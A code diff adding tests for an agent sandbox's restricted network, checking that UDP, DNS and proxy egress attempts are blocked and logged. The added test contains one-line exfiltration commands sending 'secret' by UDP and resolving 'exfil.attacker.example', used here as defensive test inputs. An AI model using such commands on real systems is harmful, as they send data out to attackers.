@@ -12,7 +12,9 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { createSandbox } from '../../src/isolation/sandbox.js';
 import type { Sandbox } from '../../src/isolation/types.js';
+import { findTool } from '../../src/isolation/privileged.js';
 import { parseAllowedHosts } from '../../src/network/allowlist.js';
+import { probeNetworkTools } from '../../src/network/gate.js';
 import { describeWith } from '../../test-support/privileges.js';
 import { retireAgentUser } from '../security/attack-kit.js';
 
@@ -108,6 +110,23 @@ describe('a restricted network (as root)', () => {
     );
   });
 
+  it('a datagram and a DNS lookup reach nothing, and are recorded (the name looked up too)', async () => {
+    const out = await runAs(
+      restricted,
+      [
+        `node -e "const d=require('dgram').createSocket('udp4');d.on('error',e=>{console.log('UDP '+e.code);process.exit(0)});d.send('secret',5353,'192.0.2.7',()=>setTimeout(()=>process.exit(0),300))"`,
+        `node -e "const r=new (require('dns').Resolver)();r.setServers(['198.51.100.53']);r.resolve4('exfil.attacker.example',e=>console.log('DNS '+(e&&e.code)))"`,
+      ].join('; '),
+    );
+    expect(out).toMatch(/DNS (ECONNREFUSED|ETIMEOUT)/);
+    const blocked = await restricted.blockedEgress!();
+    expect(blocked).toContainEqual({ destination: '192.0.2.7:5353', tries: 1, via: 'udp' });
+    expect(blocked).toContainEqual(
+      expect.objectContaining({ destination: 'exfil.attacker.example', via: 'dns' }),
+    );
+    expect(restricted.warning).toBeUndefined();
+  });
+
   it('the proxy refuses an undeclared host with 403 and counts it; an allowed one is reached', async () => {
     const before = allowed.hits();
     const out = await runAs(
@@ -126,10 +145,44 @@ describe('a restricted network (as root)', () => {
     const blocked = await restricted.blockedEgress!();
     expect(blocked).toEqual(
       expect.arrayContaining([
-        { destination: 'example.invalid:80', tries: 1, via: 'proxy' },
-        { destination: 'example.invalid:443', tries: 1, via: 'proxy' },
+        {
+          destination: 'example.invalid:80',
+          tries: 1,
+          via: 'proxy',
+          reason: 'not in allowed-hosts',
+        },
+        {
+          destination: 'example.invalid:443',
+          tries: 1,
+          via: 'proxy',
+          reason: 'not in allowed-hosts',
+        },
       ]),
     );
+  });
+
+  it('without a recorder (no perl) the namespace still blocks, and the warning says tries are not listed', async () => {
+    const made = await createSandbox({
+      mode: 'required',
+      workspace,
+      network: { mode: 'restricted', allowedHosts: [] },
+      networkProbe: (privilege) =>
+        probeNetworkTools(privilege, undefined, (name) =>
+          name === 'perl' ? undefined : findTool(name),
+        ),
+    });
+    try {
+      const before = target.hits();
+      const out = await runAs(made.sandbox, `${connect(target.port)}`);
+      expect(out).toContain('ECONNREFUSED');
+      expect(target.hits()).toBe(before);
+      expect(await made.sandbox.blockedEgress!()).toEqual([]);
+      expect(made.warning).toBe(
+        "The agent's network is restricted, but its direct tries (connects, datagrams and DNS lookups that bypass the proxy) are not recorded here: perl is not installed. They are still blocked; only the tries through the egress proxy are listed.",
+      );
+    } finally {
+      await made.sandbox.dispose();
+    }
   });
 
   it("the agent's own loopback servers still work", async () => {
